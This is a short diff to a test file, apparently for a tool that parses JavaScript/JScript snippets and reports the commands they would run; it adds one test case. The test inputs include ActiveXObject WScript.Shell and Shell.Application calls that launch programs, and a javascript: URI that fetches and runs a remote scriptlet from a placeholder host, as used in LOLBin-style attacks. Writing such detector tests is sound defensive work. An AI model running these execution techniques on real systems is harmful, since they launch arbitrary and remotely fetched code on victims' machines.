@@ -143,6 +143,7 @@ check("javascript", [
     'javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:https://h/a.sct")',
     "runs scriptlet https://h/a.sct",
   ],
+  ["with(new ActiveXObject('WScript.Shell')){Run('calc.exe')}", "line: calc.exe"],
   ["javascript:new%20ActiveXObject(%22WScript.Shell%22).Run(%22calc%22)", "line: calc"],
   ['new ActiveXObject("Shell.Application").ShellExecute("a b.exe", "-c d", "", "open", 0)', 'line: "a b.exe" -c d'],
   ['GetObject("new:13709620-C279-11CE-A49E-444553540000").ShellExecute("calc")', "run: calc"],
